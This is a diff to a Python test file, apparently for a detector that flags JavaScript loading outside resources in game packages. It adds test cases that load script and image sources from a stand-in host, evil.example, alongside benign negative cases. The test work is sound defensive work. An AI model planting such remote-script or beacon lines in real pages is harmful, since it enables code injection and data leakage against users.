@@ -269,6 +269,12 @@ SCRIPTS = {
         "fetch https://evil.example/api",
     ),
     "fetch after a division": ("const h = w / 2; fetch('https://evil.example/api') / 1", "fetch https://evil"),
+    # The attack on the first version: an element's source set by assignment.
+    "a script's src assigned": (
+        "const s = document.createElement('script'); s.src = 'https://evil.example/s.js';",
+        "src = https://evil.example/s.js",
+    ),
+    "an image's src assigned": ('new Image().src = "//evil.example/p.gif"', "src = //evil.example/p.gif"),
 }
 
 
@@ -327,6 +333,10 @@ NOT_LOADED_ELSEWHERE = {
     "a member named import": ("game.js", "loader.import('https://example.com/level'); x.fetch('https://e.example/')"),
     "a fetch of the package": ("game.js", "fetch('levels/1.json'); fetch('/api'); new Worker('w.js'); fetch(url)"),
     "a window opened": ("game.js", "window.open('https://example.com/more-games')"),
+    "a source compared": (
+        "game.js",
+        "if (img.src === 'https://example.com/a.png' || img.src == 'x') img.src = 'a.png';",
+    ),
     "an svg's gradient": ("index.html", '<svg><rect fill="url(#g)" transform="translate(1,2)"/></svg>'),
     "an svg's namespaces": (
         "index.html",
